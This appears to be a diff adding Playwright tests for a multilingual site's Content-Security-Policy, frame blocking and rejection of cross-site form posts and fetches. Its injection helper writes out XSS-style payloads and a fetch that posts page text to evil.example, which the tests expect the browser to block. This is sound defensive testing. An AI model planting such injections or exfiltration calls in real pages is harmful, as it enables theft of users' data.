@@ -1,0 +1,179 @@
+import type { Page } from '@playwright/test';
+import { type Language, languages } from '../../domain/languages.ts';
+import { pages, pathTo } from '../../domain/pages.ts';
+import { partnershipFramePath } from '../../domain/service-pages.ts';
+import { startOtherSite } from '../other-origin.ts';
+import { contact, fillForm, formOn, partnership } from '../posted-forms.ts';
+import { expectMessage, fillAtOnce, referral, submitButton } from '../referral-form.ts';
+import { expect, startSite, test } from '../site.ts';
+
+/** Collects the violations of the Content-Security-Policy, in every frame. */
+async function watchViolations(page: Page) {
+  const violations: string[] = [];
+  await page.exposeFunction('reportViolation', (text: string) => violations.push(text));
+  await page.addInitScript(() => {
+    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sourceFile }) => {
+      const { reportViolation } = window as unknown as { reportViolation(text: string): void };
+      reportViolation(`${location.pathname}: ${effectiveDirective} ${blockedURI} (${sourceFile})`);
+    });
+  });
+  return violations;
+}
+
+for (const language of languages) {
+  test.describe(`The Content-Security-Policy in ${language}`, () => {
+    test('blocks nothing in the forms, including toast and frame', async ({ page }) => {
+      const violations = await watchViolations(page);
+      await fillAtOnce(page, language, { businessName: `Policy ${language}` });
+      await submitButton(page, language).click();
+      await expectMessage(page, 'savedOnline', language);
+      await fillForm(page, contact, language, { ...contact.values, email: `policy-${language}@example.com` });
+      await formOn(page, contact, language).submit.click();
+      await expect(page.getByRole('status').filter({ hasText: contact.words[language].success.title })).toBeVisible();
+      await page.goto(pathTo('form', language));
+      await expect(page.frameLocator('iframe').getByRole('form')).toBeVisible();
+      expect(violations).toEqual([]);
+    });
+
+    test('blocks scripts, styles, images and requests injected into a page', async ({ page }) => {
+      const violations = await watchViolations(page);
+      const asked: string[] = [];
+      await page.route('https://evil.example/**', (route) => {
+        asked.push(route.request().url());
+        return route.abort();
+      });
+      await page.goto(pathTo('referral', language));
+      await page.evaluate(tryInjections);
+      const refused = () => new Set(violations.map((violation) => violation.split(' ')[1]));
+      await expect.poll(refused).toEqual(new Set(violatedDirectives));
+      expect(await page.evaluate(() => 'injected' in window)).toBe(false);
+      expect(asked).toEqual([]);
+    });
+  });
+}
+
+/** The directives that the injections below violate. */
+const violatedDirectives = ['script-src-elem', 'script-src-attr', 'style-src-elem', 'style-src-attr', 'img-src'].concat(
+  ['connect-src', 'frame-src', 'base-uri', 'font-src'],
+);
+
+/** Runs in the page and tries every kind of injection. */
+function tryInjections() {
+  const add = (html: string) => document.body.append(document.createRange().createContextualFragment(html));
+  add('<script>window.injected = 1</script>');
+  add('<script src="https://evil.example/x.js"></script>');
+  add('<img src="https://evil.example/x.png">');
+  add('<img src="data:image/png," onerror="window.injected = 2">');
+  add('<style>@font-face { font-family: evil; src: url(https://evil.example/x.woff2) } body { color: red }</style>');
+  add('<p style="color: red">red</p>');
+  add('<iframe src="https://evil.example/"></iframe>');
+  document.head.append(document.createRange().createContextualFragment('<base href="https://evil.example/">'));
+  fetch('https://evil.example/', { method: 'POST', body: document.body.textContent }).catch(() => {});
+  new FontFace('evil', 'url(https://evil.example/y.woff2)').load().catch(() => {});
+}
+
+test.describe('A frame', () => {
+  /** The address that a frame shows: the requested one, or the browser's error page when it is blocked. */
+  const frameIn = async (page: Page, address: string) => {
+    await page.evaluate((src) => {
+      const frame = Object.assign(document.createElement('iframe'), { src, name: 'tried' });
+      const loaded = new Promise((resolve) => frame.addEventListener('load', resolve));
+      document.body.append(frame);
+      return loaded;
+    }, address);
+    const shown = await (await page.locator('iframe[name=tried]').elementHandle())?.contentFrame();
+    // The browser's error page gets its address a moment after the frame has loaded.
+    await expect.poll(() => shown?.url()).not.toBe('');
+    const url = shown?.url();
+    await page.evaluate(() => document.querySelector('iframe[name=tried]')?.remove());
+    return url;
+  };
+  const blocked = 'chrome-error://chromewebdata/';
+  const framed = (language: Language) => [
+    `/${language}${partnershipFramePath}`,
+    `/${language}/answers/partnerships-saved`,
+    `/${language}/answers/too-many`,
+  ];
+
+  test('on another site shows no page of ours, not even the partnership form', async ({ page, site }) => {
+    const otherSite = await startOtherSite('<h1>Elsewhere</h1>');
+    try {
+      await page.goto(otherSite.url);
+      for (const path of [
+        ...pages.map(({ id }) => pathTo(id, 'en')),
+        ...framed('en'),
+        ...framed('zh'),
+        '/en/nowhere',
+      ]) {
+        expect([path, await frameIn(page, site.url + path)]).toEqual([path, blocked]);
+      }
+      expect(await frameIn(page, `${otherSite.url}/itself`)).toBe(`${otherSite.url}/itself`);
+    } finally {
+      otherSite.stop();
+    }
+  });
+
+  test('on our own site shows the partnership form and its responses, and no other page', async ({ page, site }) => {
+    await page.goto('/en/form');
+    await expect(page.frameLocator('iframe').getByRole('form', { name: partnership.words.en.title })).toBeVisible();
+    for (const path of [...framed('en'), ...framed('zh')]) expect(await frameIn(page, path)).toBe(site.url + path);
+    for (const path of ['/en', '/zh/referral', '/en/answers/referrals-saved', '/en/nowhere', '/healthz']) {
+      expect([path, await frameIn(page, path)]).toEqual([path, blocked]);
+    }
+  });
+});
+
+test('Another site can store nothing, neither with forms nor with fetch', async ({ page }) => {
+  const site = await startSite();
+  const form = (path: string, values: object, type = 'application/x-www-form-urlencoded') =>
+    `<form method="post" enctype="${type}" action="${site.url}${path}" target="_blank">${Object.entries(values)
+      .map(([name, value]) => `<input name="${name}" value="${value}">`)
+      .join('')}<button>Post</button></form>`;
+  const otherSite = await startOtherSite(
+    [
+      form('/api/submit-referral', { ...referral, confirmContact: 'on' }),
+      form('/api/send-message', { ...contact.values, email: 'forged@example.com' }),
+      form('/api/subscribe', { email: 'forged@example.com', consent: 'on' }, 'text/plain'),
+      form('/api/unsubscribe', { token: 'x' }),
+    ].join(''),
+  );
+  try {
+    await page.goto(otherSite.url);
+    const statuses: number[] = [];
+    page.context().on('response', (response) => {
+      if (response.request().method() === 'POST') statuses.push(response.status());
+    });
+    for (const button of await page.getByRole('button').all()) await button.click();
+    await expect.poll(() => statuses.toSorted()).toEqual([403, 403, 403, 415]);
+    const commit = `${site.url}/v1/projects/encore/databases/(default)/documents:commit`;
+    const outcomes = await page.evaluate(
+      async ({ addresses, body }) => {
+        const outcome = (address: string, init: RequestInit) =>
+          fetch(address, { method: 'POST', body, ...init }).then(
+            ({ type, status }) => `${type} ${status}`,
+            () => 'refused',
+          );
+        const json = { headers: { 'Content-Type': 'application/json' } };
+        const all = addresses.flatMap((address) => [
+          outcome(address, {}),
+          outcome(address, json),
+          outcome(address, { mode: 'no-cors', credentials: 'include' }),
+        ]);
+        return Promise.all(all);
+      },
+      {
+        addresses: [commit, `${site.url}/api/submit-referral`, `${site.url}/api/send-message`],
+        body: JSON.stringify(referral),
+      },
+    );
+    // Requests without a preflight are sent, but the other site cannot read the response and nothing is stored.
+    expect(new Set(outcomes)).toEqual(new Set(['refused', 'opaque 0']));
+    for (const collection of ['referrals', 'messages', 'subscribers'] as const) {
+      expect(await site.documents(collection)).toEqual([]);
+      expect(site.csv(collection, '--quarantine').trimEnd().split('\r\n')).toHaveLength(1);
+    }
+  } finally {
+    otherSite.stop();
+    await site.stop();
+  }
+});
